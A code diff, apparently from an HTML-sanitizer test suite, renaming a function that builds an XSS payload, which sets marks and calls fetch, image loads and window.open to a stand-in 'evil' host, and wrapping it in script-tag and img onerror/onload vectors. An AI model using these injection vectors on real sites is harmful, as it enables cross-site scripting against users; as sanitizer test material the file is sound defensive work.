@@ -1,5 +1,5 @@
 /** Whatever part of it runs leaves a trace: a mark on a document, a call, or a window. */
-export const deed = (evil: string) =>
+export const hostileScript = (evil: string) =>
   `document.documentElement.dataset.ran=1;try{top.ran=parent.ran=1}catch{};new Image().src='${evil}/ran';fetch('${evil}/ran');alert(1);open('${evil}/opened')`
 
 export const escapeAttribute = (text: string) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;')
@@ -7,7 +7,7 @@ export const escapeAttribute = (text: string) => text.replaceAll('&', '&amp;').r
 export type Vector = [name: string, html: string]
 
 export function scripts(evil: string): Vector[] {
-  const run = deed(evil)
+  const run = hostileScript(evil)
   return [
     ['script', `<script>${run}</script>`],
     ['script in capitals', `<ScRiPt>${run}</sCrIpT>`],
@@ -43,7 +43,7 @@ export function scripts(evil: string): Vector[] {
 }
 
 export function events(evil: string): Vector[] {
-  const run = escapeAttribute(deed(evil))
+  const run = escapeAttribute(hostileScript(evil))
   const elements: Vector[] = [
     ['an image that fails', `<img src="x:x" onerror="${run}">`],
     ['an image that loads', `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${run}">`],
